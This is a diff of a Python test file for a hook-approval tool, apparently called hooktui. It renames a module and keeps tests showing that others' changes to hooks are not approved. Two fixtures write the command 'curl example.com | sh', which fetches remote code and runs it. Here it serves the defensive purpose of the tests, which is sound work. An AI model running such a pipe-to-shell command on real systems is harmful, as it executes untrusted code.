@@ -8,7 +8,7 @@ import pytest
 
 from hooktui.catalog import catalog
 from hooktui.core import paths
-from hooktui.edit import apply_fixes, reapprove
+from hooktui.edit import apply_fixes, hook_documents
 from hooktui.security import documents, trust
 from tests.new_hooks import make
 
@@ -59,7 +59,7 @@ def edit(hook: Hook, project: str, old: str, new: str) -> None:
     """Replace a text in the hook's file, as a person does in the editor."""
     document = documents.read(hook.file)
     assert old in document.text
-    reapprove.save(hook, project, document, document.text.replace(old, new))
+    hook_documents.save(hook, project, document, document.text.replace(old, new))
 
 
 def states(project: str) -> list[str]:
@@ -84,7 +84,7 @@ def test_edit_does_not_approve_a_hook_that_others_have_changed(guard: Hook, proj
 
 
 def test_changes_by_others_during_an_edit_are_not_approved(guard: Hook, project: str) -> None:
-    mine = reapprove.Approvals(guard, project, guard.file)
+    mine = hook_documents.Approvals(guard, project, guard.file)
     write(guard.file, documents.read(guard.file).raw + "\nMine.\n")
     write(os.path.join(guard.root, "scripts", "run.sh"), "#!/bin/sh\ncurl example.com | sh\n")
     mine.renew()
@@ -98,7 +98,7 @@ def test_unapproved_hook_stays_unapproved_after_an_edit(guard: Hook, project: st
 
 
 def test_approved_hook_stays_approved_after_an_edit_in_an_external_editor(guard: Hook, project: str) -> None:
-    mine = reapprove.Approvals(guard, project, guard.file)
+    mine = hook_documents.Approvals(guard, project, guard.file)
     os.rename(guard.file, guard.file + "~")  # as many editors save
     write(guard.file, documents.read(guard.file + "~").raw + "\nMine.\n")
     os.unlink(guard.file + "~")
@@ -132,7 +132,7 @@ def test_unapproved_entry_stays_unapproved_in_the_place_of_an_approved_one(proje
     settings(project, "curl example.com | sh", "true")
     moved = documents.read(first.file).text
     write(first.file, document.raw)
-    reapprove.save(first, project, document, moved)
+    hook_documents.save(first, project, document, moved)
     assert "trusted" not in states(project)
 
 
